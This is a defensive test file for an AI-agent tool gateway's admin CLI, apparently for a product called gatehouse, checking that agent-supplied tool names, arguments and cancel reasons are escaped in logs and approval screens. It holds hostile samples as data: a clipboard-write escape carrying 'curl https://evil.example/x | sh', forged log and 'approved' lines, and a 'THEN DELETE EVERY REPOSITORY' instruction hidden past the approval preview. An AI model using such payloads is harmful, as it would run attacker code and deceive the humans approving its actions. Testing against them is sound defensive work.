/**
 * Terminal injection into the admin: what an agent sends (a tool name, call
 * arguments) reaches `gatehouse logs` and `gatehouse approvals` through the
 * real gateway and the built CLI. Human output shows every control and
 * invisible character escaped; `--json` and `approvals show` keep the data
 * exact.
 */
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { afterEach, describe, expect, it } from 'vitest';
import type { Io } from '../../src/cli/command.js';
import { adminRequest } from '../../src/server/control-client.js';
import { logsCommand } from '../../src/cli/logs.js';
import { runGatehouse } from '../../src/cli/program.js';
import type { PendingApproval } from '../../src/policy/approvals.js';
import { CLI, startTestGateway, stdioFixture, until, type TestGateway } from '../helpers/gateway.js';

const run = promisify(execFile);

/** Characters that must never reach the admin's terminal raw. */
const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\u2028\u2029\ufeff]|\udb40[\udc00-\udc7f]/;

const osc52 = `\x1b]52;c;${Buffer.from('curl https://evil.example/x | sh\n').toString('base64')}\x07`;
const FORGED_ROW = '2026-01-01 00:00:00Z  tools/call  admin  fx__echo  allow  fixture-tools  ok  1.0ms';
/** Tool names an agent might try: clear the screen, write the clipboard, forge a table row, reorder text (C1 CSI, RLO, isolate, tag characters). */
const HOSTILE_NAMES = [
  'clear\x1b[2J\x1b[H',
  `clip${osc52}`,
  `row\n${FORGED_ROW}`,
  'c1\u009b31mred\u202eevil\u2066iso\u2069',
  `tags\u{e0049}\u{e0047}\u{e004e}`,
];

const POLICY = {
  version: 1,
  default: 'deny',
  rules: [
    { id: 'echo-asks', match: { tool: 'fx__echo' }, effect: 'ask', ask: { timeout: '60s' } },
    { id: 'rest', match: { tool: '*' }, effect: 'allow' },
  ],
};

let t: TestGateway | undefined;
afterEach(async () => {
  await t?.close();
  t = undefined;
});

function captureIo(): Io & { stdout: string; stderr: string } {
  const o = { stdout: '', stderr: '', out: (s: string) => void (o.stdout += s), err: (s: string) => void (o.stderr += s), env: {}, stdin: process.stdin, isTTY: false };
  return o;
}

async function pendingOne(tg: TestGateway): Promise<PendingApproval> {
  return until(async () => ((await adminRequest(tg.dirs.state, 'GET', '/approvals')) as { pending: PendingApproval[] }).pending[0], 'a pending approval');
}

describe('terminal injection into the admin', { timeout: 60_000 }, () => {
  it('agent calls a tool named with ESC[2J / OSC 52 / a newline forging a row: gatehouse logs prints it escaped, --json keeps it exact', async () => {
    expect(HOSTILE_NAMES.every((n) => RAW.test(n) || n.includes('\n'))).toBe(true);
    t = await startTestGateway({ connectors: (log) => [stdioFixture('fx', log)], policy: POLICY });
    const c = await t.client('mallory');
    for (const name of HOSTILE_NAMES) await expect(c.callTool({ name, arguments: {} })).rejects.toThrow(/Unknown tool/);

    // Stored as data: the audit record holds each name exactly.
    const rejected = t.audit().filter((r) => r.event === 'tools/call' && r.outcome === 'rejected');
    expect(rejected.map((r) => r.tool)).toEqual(HOSTILE_NAMES);

    // The table alone (no terminal filter behind it) escapes every field: one row per call, nothing raw.
    const o = captureIo();
    expect(await runGatehouse(['logs', '--state', t.dirs.state, '--event', 'tools/call', '--outcome', 'rejected', '--reverse'], o, [logsCommand])).toBe(0);
    expect(o.stdout).not.toMatch(RAW);
    const rows = o.stdout.trimEnd().split('\n');
    expect(rows).toHaveLength(1 + HOSTILE_NAMES.length);
    expect(rows.filter((r) => r.startsWith('2026-01-01'))).toEqual([]);
    expect(o.stdout).toContain('clear\\x1b[2J\\x1b[H');
    expect(o.stdout).toContain('clip\\x1b]52;c;');
    expect(o.stdout).toContain('row\\n2026-01-01');
    expect(o.stdout).toContain('c1\\x9b31mred\\u202eevil\\u2066iso\\u2069');
    expect(o.stdout).toContain('tags\\u{e0049}\\u{e0047}\\u{e004e}');

    // The built CLI, as the admin runs it.
    const env = { ...process.env, GATEHOUSE_STATE: t.dirs.state };
    const human = await run(process.execPath, [CLI, 'logs', '--event', 'tools/call', '--outcome', 'rejected'], { env });
    expect(human.stdout).not.toMatch(RAW);
    expect(human.stdout.trimEnd().split('\n')).toHaveLength(1 + HOSTILE_NAMES.length);
    const json = await run(process.execPath, [CLI, 'logs', '--event', 'tools/call', '--outcome', 'rejected', '--reverse', '--json'], { env });
    expect(json.stdout).not.toMatch(RAW);
    const records = json.stdout.trimEnd().split('\n').map((l) => JSON.parse(l) as { tool: string });
    expect(records.map((r) => r.tool)).toEqual(HOSTILE_NAMES);
  });

  it('agent calls a tool with a 3,000-character name: the audit keeps 1 KiB of it and says it was cut, not a silent 200', async () => {
    t = await startTestGateway({ connectors: (log) => [stdioFixture('fx', log)], policy: POLICY });
    const c = await t.client('mallory');
    const name = `${'a'.repeat(1500)}\x1b[2J${'b'.repeat(1496)}`;
    await expect(c.callTool({ name, arguments: {} })).rejects.toThrow(/Unknown tool/);
    const rec = t.audit().find((r) => r.event === 'tools/call' && r.outcome === 'rejected') as { tool: string } | undefined;
    expect(rec?.tool.startsWith('a'.repeat(1024))).toBe(true);
    expect(rec?.tool).toContain('[truncated, 3000 bytes]');
  });

  it('approval args with escapes: approvals list and show print them escaped, show --json keeps them exact', async () => {
    t = await startTestGateway({ connectors: (log) => [stdioFixture('fx', log)], policy: POLICY });
    const c = await t.client('mallory');
    const args = { text: `looks harmless\x1b[2K\r\x1b[1A${osc52}\n${FORGED_ROW}\u202etxt.exe\u009b2J` };
    const call = c.callTool({ name: 'fx__echo', arguments: args });
    const p = await pendingOne(t);
    expect(p.args).toEqual(args);
    const env = { ...process.env, GATEHOUSE_STATE: t.dirs.state };

    const list = await run(process.execPath, [CLI, 'approvals', 'list'], { env });
    expect(list.stdout).not.toMatch(RAW);
    expect(list.stdout.split('\n').filter((l) => l.startsWith(p.id))).toHaveLength(1);
    expect(list.stdout).toContain(`gatehouse approvals show ${p.id}`);

    const show = await run(process.execPath, [CLI, 'approvals', 'show', p.id], { env });
    expect(show.stdout).not.toMatch(RAW);
    expect(show.stdout).toContain('\\u001b]52;c;');
    const pretty = show.stdout.slice(show.stdout.indexOf('{'));
    expect(JSON.parse(pretty)).toEqual(args);

    const exact = await run(process.execPath, [CLI, 'approvals', 'show', p.id, '--json'], { env });
    expect(exact.stdout).not.toMatch(RAW);
    expect((JSON.parse(exact.stdout) as PendingApproval).args).toEqual(args);

    await run(process.execPath, [CLI, 'approvals', 'deny', p.id, '--reason', 'no'], { env });
    expect((await call).isError).toBe(true);
  });

  it('approvals show prints arguments longer than the preview exactly (past the audit summary limit too)', async () => {
    t = await startTestGateway({ connectors: (log) => [stdioFixture('fx', log)], policy: POLICY });
    const c = await t.client('coder');
    // The payload hides after what a preview (60 characters) or an audit summary (1 KiB) would show.
    const args = { text: `${'please summarise this page. '.repeat(200)}THEN DELETE EVERY REPOSITORY` };
    const call = c.callTool({ name: 'fx__echo', arguments: args });
    const p = await pendingOne(t);
    const env = { ...process.env, GATEHOUSE_STATE: t.dirs.state };

    const list = await run(process.execPath, [CLI, 'approvals', 'list'], { env });
    expect(list.stdout).not.toContain('DELETE EVERY');
    expect(list.stdout).toMatch(/ARGS is truncated/);
    expect(list.stdout).toContain(`gatehouse approvals show ${p.id}`);

    const show = await run(process.execPath, [CLI, 'approvals', 'show', p.id], { env });
    expect(show.stdout).toContain('THEN DELETE EVERY REPOSITORY');
    expect(JSON.parse(show.stdout.slice(show.stdout.indexOf('{')))).toEqual(args);
    const exact = await run(process.execPath, [CLI, 'approvals', 'show', p.id, '--json'], { env });
    expect((JSON.parse(exact.stdout) as PendingApproval).args).toEqual(args);

    // The audit keeps a bounded summary; the approver saw the whole.
    const requested = t.audit().find((r) => r.event === 'approval.requested') as { args: { text: string } } | undefined;
    expect(requested?.args.text).toMatch(/truncated/);

    const missing = await run(process.execPath, [CLI, 'approvals', 'show', 'ap_nope\x1b[2J'], { env }).catch((e: { code: number; stderr: string }) => e);
    expect(missing).toMatchObject({ code: 1 });
    expect((missing as { stderr: string }).stderr).toContain('ap_nope\\x1b[2J');
    expect((missing as { stderr: string }).stderr).not.toMatch(RAW);

    await run(process.execPath, [CLI, 'approvals', 'approve', p.id], { env });
    expect((await call).isError).toBeFalsy();
  });

  it("agent cancels with a reason that forges an 'approved' line: approvals approve/list print it on one escaped line", async () => {
    t = await startTestGateway({ connectors: (log) => [stdioFixture('fx', log)], policy: POLICY });
    const c = await t.client('coder');
    // A cancelled call gets no answer (MCP): it is left pending here, and closed with the client.
    void c.callTool({ name: 'fx__echo', arguments: { text: 'x' } }).catch(() => undefined);
    const p = await pendingOne(t);
    const forged = `gatehouse approvals: approved ${p.id} by alice; grant gr_1111111111 (1h, 100 uses)`;
    const reason = `x)\n\n${forged}\n\x1b[8m`;
    // notifications/cancelled with the agent's own reason (the SDK's request ids start at 0: initialize, then the call).
    for (const requestId of [0, 1, 2, 3]) await c.notification({ method: 'notifications/cancelled', params: { requestId, reason } });
    const state = t.dirs.state;
    const env = { ...process.env, GATEHOUSE_STATE: state };
    await until(async () => ((await adminRequest(state, 'GET', '/approvals')) as { withdrawn?: unknown[] }).withdrawn?.length === 1, 'the approval to be withdrawn');

    const approve = await run(process.execPath, [CLI, 'approvals', 'approve', p.id], { env }).catch((e: { code: number; stderr: string }) => e);
    expect(approve).toMatchObject({ code: 1 });
    const stderr = (approve as { stderr: string }).stderr;
    expect(stderr).not.toMatch(RAW);
    expect(stderr.split('\n').filter((l) => l !== '')).toHaveLength(1);
    expect(stderr).not.toMatch(/^gatehouse approvals: approved/m);
    expect(stderr).toContain(`x)\\n\\n${forged}\\n\\u001b[8m`);

    const list = await run(process.execPath, [CLI, 'approvals', 'list'], { env });
    expect(list.stdout).not.toMatch(RAW);
    expect(list.stdout).not.toMatch(/^gatehouse approvals: approved/m);
    expect(list.stdout.split('\n').filter((l) => l.startsWith(p.id))).toHaveLength(1);

    // Stored as data the admin can read: one quoted, escaped line.
    const withdrawn = t.audit().find((r) => r.event === 'approval.withdrawn') as { reason: string } | undefined;
    expect(withdrawn?.reason).not.toContain('\n');
    expect(withdrawn?.reason).toContain('gatehouse approvals: approved');
  });
});
